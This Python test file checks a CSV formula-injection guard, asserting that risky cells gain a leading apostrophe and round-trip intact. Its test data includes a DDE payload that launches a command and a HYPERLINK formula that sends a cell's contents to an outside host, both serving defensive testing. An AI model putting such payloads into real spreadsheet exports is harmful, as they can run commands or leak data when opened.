"""A spreadsheet that opens our CSV files runs nothing in them."""

from __future__ import annotations

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from rejoinder.data.tables import column_for_spreadsheet, for_spreadsheet, from_spreadsheet

LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'
SIGNS = [
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "＝1+1",
    "'=1",
    "- a",
    "-",
    "+a",
    "-5\n",
]
HARMLESS = ["", "plain", "5", "-5", "+5", "-0.25", "007", "a=b", "it's", "'quoted'", " x", "é", "1-2", "a@b"]


@pytest.mark.parametrize("text", [LINK, *SIGNS])
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert for_spreadsheet(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_numbers_stay(text: str) -> None:
    assert for_spreadsheet(text) == text


TEXTS = st.text(st.sampled_from("'=+-@＝ \t\r\n\u00a0a5.\x0b") | st.characters(codec="utf-8"), max_size=6)


@given(TEXTS)
def test_the_text_is_recovered_from_its_cell(text: str) -> None:
    assert for_spreadsheet(text) in {text, f"'{text}"}
    assert from_spreadsheet(for_spreadsheet(text)) == text


@given(st.lists(TEXTS, min_size=1, max_size=5))
def test_columns_are_as_single_texts(texts: list[str]) -> None:
    frame = pl.DataFrame({"id": texts}).select(column_for_spreadsheet("id"))
    assert frame["id"].to_list() == [for_spreadsheet(text) for text in texts]
